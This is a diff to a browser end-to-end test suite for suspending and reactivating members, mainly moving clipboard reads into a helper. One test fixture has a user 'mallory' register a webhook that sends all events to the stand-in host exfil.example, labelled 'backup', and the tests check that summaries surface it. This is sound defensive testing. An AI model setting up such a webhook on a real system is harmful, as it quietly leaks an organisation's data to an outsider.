@@ -3,6 +3,7 @@ import { test } from 'node:test'
 import type { Locator, Page } from 'playwright-core'
 import { eventually, inWindow, reeve } from '../harness/browser.ts'
 import { busyPerson, nameOf } from '../harness/busy-person.ts'
+import { copiedBy } from '../harness/clipboard.ts'
 
 /** Records the lowest scroll position of the page from now on. */
 const watchScroll = (page: Page) =>
@@ -50,13 +51,9 @@ test('the receipt lists what still runs, and marking a follow-up as done shifts 
   await acme.owner.call('PATCH /v1/triggers/old', { body: { enabled: false } })
   const exfil = { url: 'https://exfil.example/reeve', event_types: ['*'], description: 'backup' }
   await mallory.call('POST /v1/governance/webhooks', { body: exfil })
-  const copied = async (page: Page) => {
-    await page.getByRole('button', { name: 'Copy summary' }).click()
-    await page.getByRole('button', { name: 'Copied' }).waitFor()
-    return page.evaluate<string>('navigator.clipboard.readText()')
-  }
-  await inWindow({ as: acme.owner }, async ({ page, open, context }) => {
-    await context.grantPermissions(['clipboard-read', 'clipboard-write'])
+  const copied = (page: Page) =>
+    copiedBy(page, () => page.getByRole('button', { name: /^(Copy summary|Copied)$/ }).click())
+  await inWindow({ as: acme.owner }, async ({ page, open }) => {
     await open(`/members/${mallory.userId}/suspend`)
     const stops = page.getByRole('region', { name: 'Will stop' })
     await stops.getByText('1 more trigger was already off').waitFor()
@@ -107,8 +104,7 @@ test('a reactivation without revoked invitations omits them, and offers a summar
   const linus = await acme.person()
   const name = await nameOf(acme, linus)
   await acme.owner.call(`POST /v1/members/${linus.userId}/suspension`, { body: { reason: 'laptop stolen' } })
-  await inWindow({ as: acme.owner, viewport: { width: 375, height: 800 } }, async ({ page, open, context }) => {
-    await context.grantPermissions(['clipboard-read', 'clipboard-write'])
+  await inWindow({ as: acme.owner, viewport: { width: 375, height: 800 } }, async ({ page, open }) => {
     await open(`/members/${linus.userId}/reactivate`)
     await page.getByText('— laptop stolen').waitFor()
     const comes = page.getByRole('region', { name: 'Will be restored' })
@@ -125,9 +121,9 @@ test('a reactivation without revoked invitations omits them, and offers a summar
     const entry = verdict.getByRole('link', { name: /^Audit entry \d+$/ })
     const address = new URL((await entry.getAttribute('href')) ?? '', page.url())
     assert.equal(await page.getByText('— laptop stolen').count(), 0, 'it still says suspended')
-    await outcome.getByRole('button', { name: 'Copy summary' }).click()
+    const copy = outcome.getByRole('button', { name: 'Copy summary' })
+    const summary = (await copiedBy(page, () => copy.click())).split('\n')
     await outcome.getByRole('button', { name: 'Copied' }).waitFor()
-    const summary = (await page.evaluate<string>('navigator.clipboard.readText()')).split('\n')
     const heading = `Reactivated in Acme: ${name} (${linus.email})`
     for (const line of [heading, 'By: Ada Owner', 'Reason: new laptop', 'Restored: access', `Audit log: ${address}`]) {
       assert.ok(summary.includes(line), `${line} is not in ${summary.join('\n')}`)
@@ -214,15 +210,12 @@ test('the effects and the summary of a suspension omit what was removed or trans
   const body = { keep_oracle: true, disable_webhooks: true }
   await acme.owner.call(`POST /v1/members/${mallory.userId}/suspension`, { body })
   const label = 'Webhooks that reactivation enables'
-  await inWindow({ as: acme.owner }, async ({ page, open, context }) => {
-    await context.grantPermissions(['clipboard-read', 'clipboard-write'])
+  await inWindow({ as: acme.owner }, async ({ page, open }) => {
     const summary = async (effect: string) => {
       await open(`/members/${mallory.userId}`)
       await page.getByText('Effects', { exact: true }).click()
       await page.getByRole('definition').getByText(effect, { exact: true }).waitFor()
-      await page.getByRole('button', { name: 'Copy summary' }).click()
-      await page.getByRole('button', { name: 'Copied' }).waitFor()
-      return page.evaluate<string>('navigator.clipboard.readText()')
+      return copiedBy(page, () => page.getByRole('button', { name: 'Copy summary' }).click())
     }
     const before = await summary('Kept running by this suspension')
     assert.match(before, new RegExp(`^${label}: https://exfil\\.example`, 'm'))
